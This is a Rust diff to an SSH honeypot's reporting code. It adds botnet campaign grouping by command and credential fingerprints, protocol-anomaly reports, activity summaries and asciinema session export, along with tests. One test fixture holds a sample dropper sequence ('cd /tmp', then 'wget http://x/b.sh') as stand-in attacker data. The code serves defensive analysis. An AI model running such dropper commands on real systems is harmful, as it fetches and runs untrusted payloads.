@@ -1,9 +1,13 @@
+use crate::ip::parse_ip;
+use crate::recording::{RecordedEvent, Recording};
 use chrono::{DateTime, Utc};
 use clap::ValueEnum;
 use minijinja::Environment;
 use serde::Serialize;
+use sha2::{Digest, Sha256};
 use sqlx::{PgPool, Row};
-use std::collections::{HashMap, HashSet};
+use std::collections::{BTreeSet, HashMap, HashSet};
+use std::path::Path;
 use std::sync::OnceLock;
 
 #[derive(Debug, Clone)]
@@ -11,6 +15,10 @@ pub struct ConnTrackRecord {
     pub timestamp: DateTime<Utc>,
     pub port: Option<i32>,
     pub local_port: Option<i32>,
+    /// Known research scanner the connection was attributed to
+    pub scanner_source: Option<String>,
+    /// PTR names of the address when it connected
+    pub reverse_dns: Option<Vec<String>>,
 }
 
 #[derive(Debug, Clone)]
@@ -117,6 +125,10 @@ struct IpReportContext {
     conn_last: Option<String>,
     conn_ports: Vec<i32>,
     conn_recent: Vec<ConnRow>,
+    /// Known research scanners this IP was attributed to, empty for everyone else
+    scanner_sources: Vec<String>,
+    /// PTR names seen on the most recent connection that had any
+    reverse_dns: Vec<String>,
     country: Option<String>,
     country_code: Option<String>,
     region: Option<String>,
@@ -163,6 +175,94 @@ struct PasswordReportContext {
     all_ips: Vec<CountRow>,
 }
 
+/// What one session or IP did, in order: the commands a session ran or the
+/// credentials an IP tried
+#[derive(Debug, Clone)]
+pub struct FingerprintSource {
+    pub ip: String,
+    pub steps: Vec<String>,
+    pub first_seen: DateTime<Utc>,
+    pub last_seen: DateTime<Utc>,
+}
+
+/// Sessions from several IPs that share a fingerprint, most likely one botnet
+/// working through the same script or dictionary
+#[derive(Debug, Clone, Serialize)]
+pub struct Campaign {
+    pub fingerprint: String,
+    pub steps: Vec<String>,
+    /// Sessions (commands) or IPs (credentials) with this fingerprint
+    pub sessions: usize,
+    pub ips: Vec<String>,
+    pub first_seen: String,
+    pub last_seen: String,
+}
+
+#[derive(Serialize)]
+struct CampaignReportContext {
+    generated_at: String,
+    min_ips: usize,
+    command_campaigns: Vec<Campaign>,
+    credential_campaigns: Vec<Campaign>,
+}
+
+/// An IP that sent malformed or probing packets
+#[derive(Debug, Clone, Serialize)]
+pub struct AnomalySource {
+    pub ip: String,
+    pub anomalies: i64,
+    pub kinds: Vec<String>,
+    pub first_seen: String,
+    pub last_seen: String,
+}
+
+#[derive(Debug, Clone, Serialize)]
+pub struct AnomalyKindCount {
+    pub kind: String,
+    pub count: i64,
+}
+
+#[derive(Serialize)]
+struct AnomalyReportContext {
+    generated_at: String,
+    total: i64,
+    kinds: Vec<AnomalyKindCount>,
+    sources: Vec<AnomalySource>,
+}
+
+/// Activity of a recent window, for the one-line summary logged with --summary-interval-mins
+#[derive(Debug, Clone, Default)]
+pub struct ActivitySummary {
+    pub connections: i64,
+    pub auth_attempts: i64,
+    /// Most tried usernames with their attempts
+    pub top_usernames: Vec<(String, i64)>,
+    /// Country codes with the most auth attempts
+    pub top_countries: Vec<(String, i64)>,
+}
+
+impl std::fmt::Display for ActivitySummary {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        fn top(list: &[(String, i64)]) -> String {
+            if list.is_empty() {
+                return "-".to_string();
+            }
+            list.iter()
+                .map(|(value, count)| format!("{} ({})", value, count))
+                .collect::<Vec<_>>()
+                .join(", ")
+        }
+        write!(
+            f,
+            "{} connections, {} auth attempts, top usernames: {}, top countries: {}",
+            self.connections,
+            self.auth_attempts,
+            top(&self.top_usernames),
+            top(&self.top_countries)
+        )
+    }
+}
+
 /// Lazily-built, shared minijinja environment holding the report templates.
 ///
 /// Templates are embedded with `include_str!` so the environment is `'static`.
@@ -200,6 +300,36 @@ fn report_env() -> &'static Environment<'static> {
             include_str!("../templates/password_report.md"),
         )
         .expect("password_report.md template is valid");
+        env.add_template(
+            "campaign_report.txt",
+            include_str!("../templates/campaign_report.txt"),
+        )
+        .expect("campaign_report.txt template is valid");
+        env.add_template(
+            "campaign_report.html",
+            include_str!("../templates/campaign_report.html"),
+        )
+        .expect("campaign_report.html template is valid");
+        env.add_template(
+            "campaign_report.md",
+            include_str!("../templates/campaign_report.md"),
+        )
+        .expect("campaign_report.md template is valid");
+        env.add_template(
+            "anomaly_report.txt",
+            include_str!("../templates/anomaly_report.txt"),
+        )
+        .expect("anomaly_report.txt template is valid");
+        env.add_template(
+            "anomaly_report.html",
+            include_str!("../templates/anomaly_report.html"),
+        )
+        .expect("anomaly_report.html template is valid");
+        env.add_template(
+            "anomaly_report.md",
+            include_str!("../templates/anomaly_report.md"),
+        )
+        .expect("anomaly_report.md template is valid");
         env
     })
 }
@@ -243,6 +373,10 @@ impl ReportGenerator {
         format: &ReportFormat,
         extended_info: bool,
     ) -> Result<String, Box<dyn std::error::Error>> {
+        let ip = parse_ip(ip)
+            .ok_or_else(|| format!("\"{}\" is not an IPv4 or IPv6 address", ip))?
+            .to_string();
+        let ip = ip.as_str();
         let records = self.get_auth_data_for_ip(ip).await?;
         let conn_track = self.get_conn_track_for_ip(ip).await?;
         let (commands_total, commands) = self.get_commands_for_ip(ip).await?;
@@ -270,7 +404,7 @@ impl ReportGenerator {
     }
 
     async fn get_conn_track_for_ip(&self, ip: &str) -> Result<Vec<ConnTrackRecord>, sqlx::Error> {
-        let query = "SELECT timestamp, port, local_port FROM conn_track WHERE ip = $1::inet ORDER BY timestamp DESC";
+        let query = "SELECT timestamp, port, local_port, scanner_source, reverse_dns FROM conn_track WHERE ip = $1::inet ORDER BY timestamp DESC";
 
         let rows = sqlx::query(query).bind(ip).fetch_all(&self.pool).await?;
 
@@ -280,6 +414,8 @@ impl ReportGenerator {
                 timestamp: row.get("timestamp"),
                 port: row.get("port"),
                 local_port: row.get("local_port"),
+                scanner_source: row.get("scanner_source"),
+                reverse_dns: row.get("reverse_dns"),
             })
             .collect())
     }
@@ -289,7 +425,7 @@ impl ReportGenerator {
         ip: &str,
     ) -> Result<Vec<AuthPasswordEnrichedRecord>, sqlx::Error> {
         let query = "SELECT
-            id, timestamp, ip::text as ip_text, username, password,
+            id, timestamp, host(ip) as ip_text, username, password,
             country_code, country, region, region_name, city, zip,
             lat, lon, timezone, isp, org, as_info,
             abuse_confidence_score, is_tor, is_whitelisted, total_reports,
@@ -539,6 +675,17 @@ impl ReportGenerator {
             .into_iter()
             .collect();
         conn_ports.sort_unstable();
+        let mut scanner_sources: Vec<String> = conn_track
+            .iter()
+            .filter_map(|c| c.scanner_source.clone())
+            .collect::<HashSet<_>>()
+            .into_iter()
+            .collect();
+        scanner_sources.sort_unstable();
+        let reverse_dns = conn_track
+            .iter()
+            .find_map(|c| c.reverse_dns.clone())
+            .unwrap_or_default();
         let conn_recent = conn_track
             .iter()
             .take(20)
@@ -565,6 +712,8 @@ impl ReportGenerator {
             conn_last,
             conn_ports,
             conn_recent,
+            scanner_sources,
+            reverse_dns,
             country,
             country_code,
             region,
@@ -648,6 +797,48 @@ impl ReportGenerator {
         Ok(report_env().get_template("ip_report.md")?.render(ctx)?)
     }
 
+    /// Export the first recorded session of `auth_id` as an asciinema v2 cast.
+    ///
+    /// Needs the file written with `--record-raw-streams` to be readable from
+    /// here. Terminal size and TERM come from the session's pty-req, falling back
+    /// to the size the recording started with.
+    pub async fn export_session_cast(
+        &self,
+        auth_id: &str,
+    ) -> Result<String, Box<dyn std::error::Error>> {
+        let row = sqlx::query(
+            "SELECT raw_stream_path FROM sessions WHERE auth_id = $1::uuid AND raw_stream_path IS NOT NULL ORDER BY start_time LIMIT 1",
+        )
+        .bind(auth_id)
+        .fetch_optional(&self.pool)
+        .await?;
+        let Some(row) = row else {
+            return Err(format!("No recorded session for auth id {}", auth_id).into());
+        };
+        let path: String = row.get("raw_stream_path");
+        let recording = Recording::read(Path::new(&path))
+            .map_err(|e| format!("Failed to read recording {}: {}", path, e))?;
+
+        let pty = sqlx::query(
+            "SELECT term, width, height FROM terminal_events WHERE auth_id = $1::uuid AND event_type = 'pty-req' ORDER BY timestamp LIMIT 1",
+        )
+        .bind(auth_id)
+        .fetch_optional(&self.pool)
+        .await?;
+        let (term, size) = match pty {
+            Some(row) => (
+                row.get::<Option<String>, _>("term"),
+                Some((
+                    row.get::<i32, _>("width") as u32,
+                    row.get::<i32, _>("height") as u32,
+                )),
+            ),
+            None => (None, None),
+        };
+
+        Ok(session_cast(&recording, term.as_deref(), size))
+    }
+
     pub async fn generate_password_report(
         &self,
         password: &str,
@@ -704,7 +895,7 @@ impl ReportGenerator {
             .map(|row| (row.get::<String, _>("username"), row.get::<i64, _>("count")))
             .collect();
 
-        let ip_query = "SELECT ip::text as ip_text, COUNT(*) as count
+        let ip_query = "SELECT host(ip) as ip_text, COUNT(*) as count
             FROM auth_password_enriched
             WHERE password = $1
             GROUP BY ip
@@ -719,8 +910,6 @@ impl ReportGenerator {
         let top_ips: Vec<(String, i64)> = ip_rows
             .iter()
             .map(|row| (row.get::<String, _>("ip_text"), row.get::<i64, _>("count")))
-            // Formatter doing weird things with ip here. Appends /32 everywhere
-            .map(|(ip, count)| (ip.replace("/32", ""), count))
             .collect();
 
         let all_username_query = "SELECT username, COUNT(*) as count
@@ -739,7 +928,7 @@ impl ReportGenerator {
             .map(|row| (row.get::<String, _>("username"), row.get::<i64, _>("count")))
             .collect();
 
-        let all_ip_query = "SELECT ip::text as ip_text, COUNT(*) as count
+        let all_ip_query = "SELECT host(ip) as ip_text, COUNT(*) as count
             FROM auth_password_enriched
             WHERE password = $1
             GROUP BY ip
@@ -753,8 +942,6 @@ impl ReportGenerator {
         let all_ips: Vec<(String, i64)> = all_ip_rows
             .iter()
             .map(|row| (row.get::<String, _>("ip_text"), row.get::<i64, _>("count")))
-            // Formatter doing weird things with ip here. Appends /32 everywhere
-            .map(|(ip, count)| (ip.replace("/32", ""), count))
             .collect();
 
         Ok(PasswordReportData {
@@ -833,6 +1020,296 @@ impl ReportGenerator {
             .get_template("password_report.md")?
             .render(ctx)?)
     }
+
+    /// Group sessions running the same command sequence and IPs trying the same
+    /// credential list. Only groups spanning at least `min_ips` addresses count
+    pub async fn find_campaigns(
+        &self,
+        min_ips: usize,
+    ) -> Result<(Vec<Campaign>, Vec<Campaign>), sqlx::Error> {
+        let commands = self.get_command_sequences().await?;
+        let credentials = self.get_credential_sequences().await?;
+        Ok((
+            group_campaigns(commands, min_ips),
+            group_campaigns(credentials, min_ips),
+        ))
+    }
+
+    pub async fn generate_campaign_report(
+        &self,
+        min_ips: usize,
+        format: &ReportFormat,
+    ) -> Result<String, Box<dyn std::error::Error>> {
+        let (command_campaigns, credential_campaigns) = self.find_campaigns(min_ips).await?;
+
+        if command_campaigns.is_empty() && credential_campaigns.is_empty() {
+            return Ok(format!(
+                "No campaigns spanning at least {} IPs found",
+                min_ips
+            ));
+        }
+
+        let ctx = CampaignReportContext {
+            generated_at: Utc::now().to_rfc3339(),
+            min_ips,
+            command_campaigns,
+            credential_campaigns,
+        };
+        let template = match format {
+            ReportFormat::Text => "campaign_report.txt",
+            ReportFormat::Html => "campaign_report.html",
+            ReportFormat::Markdown => "campaign_report.md",
+        };
+        Ok(report_env().get_template(template)?.render(ctx)?)
+    }
+
+    /// IPs that broke the SSH protocol, most anomalies first, at most `limit` of them
+    pub async fn generate_anomaly_report(
+        &self,
+        limit: i64,
+        format: &ReportFormat,
+    ) -> Result<String, Box<dyn std::error::Error>> {
+        let kinds: Vec<AnomalyKindCount> = sqlx::query(
+            "SELECT kind, COUNT(*) AS count FROM protocol_anomalies
+            GROUP BY kind ORDER BY count DESC, kind",
+        )
+        .fetch_all(&self.pool)
+        .await?
+        .iter()
+        .map(|row| AnomalyKindCount {
+            kind: row.get("kind"),
+            count: row.get("count"),
+        })
+        .collect();
+
+        if kinds.is_empty() {
+            return Ok("No protocol anomalies recorded".to_string());
+        }
+
+        let sources = sqlx::query(
+            "SELECT host(ip) AS ip_text, COUNT(*) AS anomalies,
+                array_agg(DISTINCT kind ORDER BY kind) AS kinds,
+                MIN(timestamp) AS first_seen, MAX(timestamp) AS last_seen
+            FROM protocol_anomalies
+            GROUP BY ip
+            ORDER BY anomalies DESC, last_seen DESC
+            LIMIT $1",
+        )
+        .bind(limit)
+        .fetch_all(&self.pool)
+        .await?
+        .iter()
+        .map(|row| AnomalySource {
+            ip: row.get("ip_text"),
+            anomalies: row.get("anomalies"),
+            kinds: row.get("kinds"),
+            first_seen: row.get::<DateTime<Utc>, _>("first_seen").to_rfc3339(),
+            last_seen: row.get::<DateTime<Utc>, _>("last_seen").to_rfc3339(),
+        })
+        .collect();
+
+        let ctx = AnomalyReportContext {
+            generated_at: Utc::now().to_rfc3339(),
+            total: kinds.iter().map(|kind| kind.count).sum(),
+            kinds,
+            sources,
+        };
+        let template = match format {
+            ReportFormat::Text => "anomaly_report.txt",
+            ReportFormat::Html => "anomaly_report.html",
+            ReportFormat::Markdown => "anomaly_report.md",
+        };
+        Ok(report_env().get_template(template)?.render(ctx)?)
+    }
+
+    /// Connections, auth attempts and the `top` most tried usernames and source
+    /// countries since `since`. Countries come from the AbuseIPDB and ip-api caches,
+    /// addresses neither looked up are left out of them
+    pub async fn activity_summary(
+        &self,
+        since: DateTime<Utc>,
+        top: i64,
+    ) -> Result<ActivitySummary, sqlx::Error> {
+        let connections: i64 =
+            sqlx::query_scalar("SELECT COUNT(*) FROM conn_track WHERE timestamp >= $1")
+                .bind(since)
+                .fetch_one(&self.pool)
+                .await?;
+        let auth_attempts: i64 =
+            sqlx::query_scalar("SELECT COUNT(*) FROM auth WHERE timestamp >= $1")
+                .bind(since)
+                .fetch_one(&self.pool)
+                .await?;
+
+        let counts = |rows: Vec<sqlx::postgres::PgRow>| -> Vec<(String, i64)> {
+            rows.iter()
+                .map(|row| (row.get::<String, _>("value"), row.get::<i64, _>("count")))
+                .collect()
+        };
+        let top_usernames = sqlx::query(
+            "SELECT username AS value, COUNT(*) AS count FROM auth
+            WHERE timestamp >= $1
+            GROUP BY username ORDER BY count DESC, value LIMIT $2",
+        )
+        .bind(since)
+        .bind(top)
+        .fetch_all(&self.pool)
+        .await?;
+        let top_countries = sqlx::query(
+            "SELECT COALESCE(ab.country_code, ip.country_code) AS value, COUNT(*) AS count
+            FROM auth a
+            LEFT JOIN abuse_ip_cache ab ON ab.ip = a.ip
+            LEFT JOIN ipapi_cache ip ON ip.ip = a.ip
+            WHERE a.timestamp >= $1 AND COALESCE(ab.country_code, ip.country_code) IS NOT NULL
+            GROUP BY value ORDER BY count DESC, value LIMIT $2",
+        )
+        .bind(since)
+        .bind(top)
+        .fetch_all(&self.pool)
+        .await?;
+
+        Ok(ActivitySummary {
+            connections,
+            auth_attempts,
+            top_usernames: counts(top_usernames),
+            top_countries: counts(top_countries),
+        })
+    }
+
+    /// The commands of every session in the order they ran
+    async fn get_command_sequences(&self) -> Result<Vec<FingerprintSource>, sqlx::Error> {
+        let query =
+            "SELECT c.auth_id::text AS auth_id, host(a.ip) AS ip_text, c.command, c.timestamp
+            FROM commands c JOIN auth a ON c.auth_id = a.id
+            ORDER BY c.auth_id, c.timestamp";
+
+        let rows = sqlx::query(query).fetch_all(&self.pool).await?;
+        Ok(collect_sequences(rows.iter().map(|row| {
+            (
+                row.get::<String, _>("auth_id"),
+                row.get::<String, _>("ip_text"),
+                row.get::<String, _>("command"),
+                row.get::<DateTime<Utc>, _>("timestamp"),
+            )
+        })))
+    }
+
+    /// The distinct credentials every IP tried, in the order it first tried them.
+    /// A bot reconnecting halfway through its list still ends up with the same list
+    async fn get_credential_sequences(&self) -> Result<Vec<FingerprintSource>, sqlx::Error> {
+        let query = "SELECT host(ip) AS ip_text, username, password, timestamp
+            FROM auth
+            WHERE auth_type = 'password' AND password IS NOT NULL
+            ORDER BY ip, timestamp";
+
+        let rows = sqlx::query(query).fetch_all(&self.pool).await?;
+        let mut sources = collect_sequences(rows.iter().map(|row| {
+            let ip: String = row.get("ip_text");
+            let username: String = row.get("username");
+            let password: String = row.get("password");
+            (
+                ip.clone(),
+                ip,
+                format!("{}:{}", username, password),
+                row.get::<DateTime<Utc>, _>("timestamp"),
+            )
+        }));
+        for source in &mut sources {
+            let mut seen = HashSet::new();
+            source.steps.retain(|step| seen.insert(step.clone()));
+        }
+        Ok(sources)
+    }
+}
+
+/// Fold `(key, ip, step, timestamp)` rows sorted by key into one source per key
+fn collect_sequences<I>(rows: I) -> Vec<FingerprintSource>
+where
+    I: IntoIterator<Item = (String, String, String, DateTime<Utc>)>,
+{
+    let mut sources: Vec<FingerprintSource> = Vec::new();
+    let mut current_key: Option<String> = None;
+    for (key, ip, step, timestamp) in rows {
+        if current_key.as_deref() == Some(key.as_str())
+            && let Some(source) = sources.last_mut()
+        {
+            source.steps.push(step);
+            source.last_seen = timestamp;
+            continue;
+        }
+        current_key = Some(key);
+        sources.push(FingerprintSource {
+            ip,
+            steps: vec![step],
+            first_seen: timestamp,
+            last_seen: timestamp,
+        });
+    }
+    sources
+}
+
+/// Short SHA-256 over the steps in order. 16 hex digits are plenty to tell
+/// campaigns apart and still fit in a table column
+fn fingerprint(steps: &[String]) -> String {
+    let mut hasher = Sha256::new();
+    for step in steps {
+        hasher.update(step.as_bytes());
+        hasher.update([0]);
+    }
+    hex::encode(hasher.finalize())[..16].to_string()
+}
+
+/// Group sources by fingerprint and keep the groups seen from at least
+/// `min_ips` addresses, the widest first
+fn group_campaigns(sources: Vec<FingerprintSource>, min_ips: usize) -> Vec<Campaign> {
+    struct Group {
+        steps: Vec<String>,
+        sessions: usize,
+        ips: BTreeSet<String>,
+        first_seen: DateTime<Utc>,
+        last_seen: DateTime<Utc>,
+    }
+
+    let mut groups: HashMap<String, Group> = HashMap::new();
+    for source in sources {
+        if source.steps.is_empty() {
+            continue;
+        }
+        let group = groups
+            .entry(fingerprint(&source.steps))
+            .or_insert_with(|| Group {
+                steps: source.steps.clone(),
+                sessions: 0,
+                ips: BTreeSet::new(),
+                first_seen: source.first_seen,
+                last_seen: source.last_seen,
+            });
+        group.sessions += 1;
+        group.ips.insert(source.ip);
+        group.first_seen = group.first_seen.min(source.first_seen);
+        group.last_seen = group.last_seen.max(source.last_seen);
+    }
+
+    let mut campaigns: Vec<Campaign> = groups
+        .into_iter()
+        .filter(|(_, group)| group.ips.len() >= min_ips.max(1))
+        .map(|(fingerprint, group)| Campaign {
+            fingerprint,
+            steps: group.steps,
+            sessions: group.sessions,
+            ips: group.ips.into_iter().collect(),
+            first_seen: group.first_seen.to_rfc3339(),
+            last_seen: group.last_seen.to_rfc3339(),
+        })
+        .collect();
+    campaigns.sort_by(|a, b| {
+        b.ips
+            .len()
+            .cmp(&a.ips.len())
+            .then_with(|| b.sessions.cmp(&a.sessions))
+            .then_with(|| a.fingerprint.cmp(&b.fingerprint))
+    });
+    campaigns
 }
 
 /// Counts occurrences of each key and returns the top `n` as ranked rows,
@@ -860,6 +1337,86 @@ where
         .collect()
 }
 
+/// asciinema v2 cast of a recording: a header line, then `[seconds, "o", text]`
+/// for output and `[seconds, "r", "COLSxROWS"]` for resizes. Input is left out,
+/// the terminal echo already shows what was typed
+fn session_cast(recording: &Recording, term: Option<&str>, size: Option<(u32, u32)>) -> String {
+    let (mut width, mut height) = size.unwrap_or((recording.header.width, recording.header.height));
+    let header = serde_json::json!({
+        "version": 2,
+        "width": width,
+        "height": height,
+        "timestamp": recording.header.started_at.timestamp(),
+        "title": format!("{} ({})", recording.header.peer, recording.header.auth_id),
+        "env": {"TERM": term.unwrap_or("xterm"), "SHELL": "/bin/bash"},
+    });
+    let mut lines = vec![header.to_string()];
+
+    // Tarpitted output arrives byte by byte, multibyte characters are put back together here
+    let mut pending = Vec::new();
+    let mut last_seconds = 0.0;
+    for event in &recording.events {
+        match event {
+            RecordedEvent::Output { seconds, data } => {
+                pending.extend_from_slice(data);
+                let text = take_utf8(&mut pending);
+                if !text.is_empty() {
+                    lines.push(serde_json::json!([seconds, "o", text]).to_string());
+                }
+                last_seconds = *seconds;
+            }
+            RecordedEvent::Resize {
+                seconds,
+                columns,
+                rows,
+            } if (*columns, *rows) != (width, height) => {
+                (width, height) = (*columns, *rows);
+                lines.push(
+                    serde_json::json!([seconds, "r", format!("{}x{}", columns, rows)]).to_string(),
+                );
+            }
+            _ => {}
+        }
+    }
+    if !pending.is_empty() {
+        let text = String::from_utf8_lossy(&pending);
+        lines.push(serde_json::json!([last_seconds, "o", text]).to_string());
+    }
+
+    let mut cast = lines.join("\n");
+    cast.push('\n');
+    cast
+}
+
+/// Decode what `pending` holds so far. Invalid bytes become U+FFFD, an
+/// incomplete sequence at the end stays in `pending` for the next event
+fn take_utf8(pending: &mut Vec<u8>) -> String {
+    let mut text = String::new();
+    let mut rest: &[u8] = pending;
+    while let Err(err) = std::str::from_utf8(rest) {
+        let (valid, after) = rest.split_at(err.valid_up_to());
+        text.push_str(&String::from_utf8_lossy(valid));
+        match err.error_len() {
+            Some(len) => {
+                text.push(char::REPLACEMENT_CHARACTER);
+                rest = &after[len..];
+            }
+            None => {
+                rest = after;
+                break;
+            }
+        }
+    }
+    let rest = rest.to_vec();
+    if let Ok(valid) = std::str::from_utf8(&rest) {
+        text.push_str(valid);
+        pending.clear();
+    } else {
+        *pending = rest;
+    }
+    text
+}
+
 #[derive(Debug, Clone, ValueEnum)]
 pub enum ReportFormat {
     Text,
@@ -886,6 +1443,16 @@ mod tests {
                 port: "54321".to_string(),
                 local_port: "2222".to_string(),
             }],
+            scanner_sources: if has_data {
+                vec!["censys".to_string()]
+            } else {
+                Vec::new()
+            },
+            reverse_dns: if has_data {
+                vec!["scanner-01.example.net".to_string()]
+            } else {
+                Vec::new()
+            },
             country: Some("Exampleland".to_string()),
             country_code: Some("EX".to_string()),
             region: Some("Region".to_string()),
@@ -1008,6 +1575,35 @@ mod tests {
         }
     }
 
+    #[test]
+    fn ip_report_for_ipv6_source() {
+        let ip = parse_ip("[2001:DB8::5]").expect("bracketed IPv6 parses");
+        assert_eq!(ip.to_string(), "2001:db8::5");
+        assert_eq!(parse_ip("2001:db8::5/128"), Some(ip));
+        assert_eq!(
+            parse_ip("::ffff:203.0.113.5").map(|ip| ip.to_string()),
+            Some("203.0.113.5".to_string())
+        );
+        assert_eq!(parse_ip("2001:db8::/64"), None);
+        assert_eq!(parse_ip("not-an-ip"), None);
+
+        let env = report_env();
+        let mut ctx = sample_ip_context(true, true);
+        ctx.ip = ip.to_string();
+        for name in ["ip_report.txt", "ip_report.html", "ip_report.md"] {
+            let out = env
+                .get_template(name)
+                .expect("template exists")
+                .render(&ctx)
+                .unwrap_or_else(|e| panic!("rendering {name} failed: {e}"));
+            assert!(out.contains("2001:db8::5"), "{name} lacks the address");
+            assert!(
+                !out.contains("[2001:db8::5]"),
+                "{name} brackets the address"
+            );
+        }
+    }
+
     #[test]
     fn templates_parse_and_render_password() {
         let env = report_env();
@@ -1024,6 +1620,103 @@ mod tests {
         }
     }
 
+    #[test]
+    fn campaigns_group_identical_sequences_across_ips() {
+        let at = |minute: u32| -> DateTime<Utc> {
+            DateTime::parse_from_rfc3339(&format!("2024-01-01T00:{:02}:00+00:00", minute))
+                .unwrap()
+                .with_timezone(&Utc)
+        };
+        let source = |ip: &str, steps: &[&str], minute: u32| FingerprintSource {
+            ip: ip.to_string(),
+            steps: steps.iter().map(|s| s.to_string()).collect(),
+            first_seen: at(minute),
+            last_seen: at(minute + 1),
+        };
+        let dropper = ["uname -a", "cd /tmp", "wget http://x/b.sh"];
+        let sources = vec![
+            source("203.0.113.5", &dropper, 10),
+            source("198.51.100.7", &dropper, 3),
+            source("203.0.113.5", &dropper, 20),
+            // Same commands in another order are another script
+            source(
+                "192.0.2.1",
+                &["cd /tmp", "uname -a", "wget http://x/b.sh"],
+                5,
+            ),
+            source("192.0.2.2", &["id"], 5),
+            source("192.0.2.3", &["id"], 6),
+            source("192.0.2.4", &[], 8),
+        ];
+
+        let campaigns = group_campaigns(sources.clone(), 2);
+        assert_eq!(campaigns.len(), 2);
+        let first = &campaigns[0];
+        assert_eq!(first.ips, ["198.51.100.7", "203.0.113.5"]);
+        assert_eq!(first.sessions, 3);
+        assert_eq!(first.steps, dropper);
+        assert_eq!(first.first_seen, at(3).to_rfc3339());
+        assert_eq!(first.last_seen, at(21).to_rfc3339());
+        assert_eq!(first.fingerprint.len(), 16);
+        assert_eq!(campaigns[1].ips, ["192.0.2.2", "192.0.2.3"]);
+        assert_eq!(campaigns[1].sessions, 2);
+
+        // A single IP only counts once the threshold allows it
+        assert_eq!(group_campaigns(sources, 1).len(), 3);
+
+        let env = report_env();
+        let ctx = CampaignReportContext {
+            generated_at: "2024-01-03T00:00:00+00:00".to_string(),
+            min_ips: 2,
+            command_campaigns: campaigns.clone(),
+            credential_campaigns: campaigns,
+        };
+        for name in [
+            "campaign_report.txt",
+            "campaign_report.html",
+            "campaign_report.md",
+        ] {
+            let out = env
+                .get_template(name)
+                .expect("template exists")
+                .render(&ctx)
+                .unwrap_or_else(|e| panic!("rendering {name} failed: {e}"));
+            assert!(out.contains("198.51.100.7"), "{name} lacks a member IP");
+            // The HTML report escapes slashes
+            let command = match name.ends_with(".html") {
+                true => "wget http:&#x2f;&#x2f;x&#x2f;b.sh",
+                false => "wget http://x/b.sh",
+            };
+            assert!(out.contains(command), "{name} lacks the commands");
+        }
+    }
+
+    #[test]
+    fn collect_sequences_splits_on_key() {
+        let at = |minute: u32| -> DateTime<Utc> {
+            DateTime::parse_from_rfc3339(&format!("2024-01-01T00:{:02}:00+00:00", minute))
+                .unwrap()
+                .with_timezone(&Utc)
+        };
+        let row = |key: &str, step: &str, minute: u32| {
+            (
+                key.to_string(),
+                "192.0.2.1".to_string(),
+                step.to_string(),
+                at(minute),
+            )
+        };
+        let sources = collect_sequences(vec![
+            row("a", "ls", 1),
+            row("a", "id", 2),
+            row("b", "ls", 3),
+        ]);
+        assert_eq!(sources.len(), 2);
+        assert_eq!(sources[0].steps, ["ls", "id"]);
+        assert_eq!(sources[0].last_seen, at(2));
+        assert_eq!(sources[1].steps, ["ls"]);
+    }
+
     #[test]
     fn fmt_filter_formats_rfc3339() {
         assert_eq!(
@@ -1050,4 +1743,76 @@ mod tests {
         assert_eq!(rows[1].value, "b");
         assert_eq!(rows[1].count, 2);
     }
+
+    #[test]
+    fn session_cast_rebuilds_output_events() {
+        let recording = Recording {
+            header: crate::recording::RecordingHeader {
+                version: crate::recording::RECORDING_VERSION,
+                auth_id: "00000000-0000-0000-0000-000000000001".to_string(),
+                peer: "203.0.113.5:54321".to_string(),
+                started_at: DateTime::parse_from_rfc3339("2024-01-02T00:00:00+00:00")
+                    .unwrap()
+                    .with_timezone(&Utc),
+                width: 80,
+                height: 24,
+            },
+            events: vec![
+                RecordedEvent::Resize {
+                    seconds: 0.1,
+                    columns: 120,
+                    rows: 40,
+                },
+                RecordedEvent::Input {
+                    seconds: 1.0,
+                    data: b"ls\r".to_vec(),
+                },
+                RecordedEvent::Output {
+                    seconds: 1.5,
+                    data: vec![b'c', b'a', b'f', 0xc3],
+                },
+                RecordedEvent::Output {
+                    seconds: 1.75,
+                    data: vec![0xa9, 0xff],
+                },
+                RecordedEvent::Resize {
+                    seconds: 2.0,
+                    columns: 100,
+                    rows: 30,
+                },
+            ],
+        };
+
+        let cast = session_cast(&recording, Some("xterm-256color"), Some((120, 40)));
+        let lines: Vec<&str> = cast.lines().collect();
+        let header: serde_json::Value = serde_json::from_str(lines[0]).unwrap();
+        assert_eq!(header["version"], 2);
+        assert_eq!(header["width"], 120);
+        assert_eq!(header["height"], 40);
+        assert_eq!(header["timestamp"], 1704153600);
+        assert_eq!(header["env"]["TERM"], "xterm-256color");
+        // The pty-req resize matches the header and the input is not part of the cast
+        assert_eq!(
+            &lines[1..],
+            [
+                r#"[1.5,"o","caf"]"#,
+                "[1.75,\"o\",\"\u{e9}\u{fffd}\"]",
+                r#"[2.0,"r","100x30"]"#,
+            ]
+        );
+    }
+
+    #[test]
+    fn activity_summary_fits_one_line() {
+        let summary = ActivitySummary {
+            connections: 120,
+            auth_attempts: 87,
+            top_usernames: vec![("root".to_string(), 60), ("admin".to_string(), 12)],
+            top_countries: Vec::new(),
+        };
+        assert_eq!(
+            summary.to_string(),
+            "120 connections, 87 auth attempts, top usernames: root (60), admin (12), top countries: -"
+        );
+    }
 }